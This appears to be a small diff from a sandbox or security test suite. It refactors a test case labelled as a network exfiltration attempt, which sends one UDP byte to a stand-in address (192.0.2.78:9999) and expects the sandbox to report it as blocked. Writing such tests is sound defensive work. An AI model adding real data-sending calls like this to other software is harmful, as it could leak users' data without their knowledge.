@@ -7,8 +7,5 @@ ATTACK(NETWORK, "attempts", .gain = "what was found, sent away without a connect
        .source = "exfiltration", .event = "network.blocked", .with = "address=192.0.2.78",
        .works = SOME_KERNELS, .needs = "a network", .flags = LONELY | QUIET)
 {
-	struct sockaddr_in a = at4("192.0.2.78", 9999);
-	int fd = socket_soon(AF_INET, SOCK_DGRAM);
-
-	return fd < 0 ? -1 : sendto(fd, "x", 1, 0, (struct sockaddr *)&a, sizeof(a));
+	return attempt_datagram("192.0.2.78", 9999);
 }
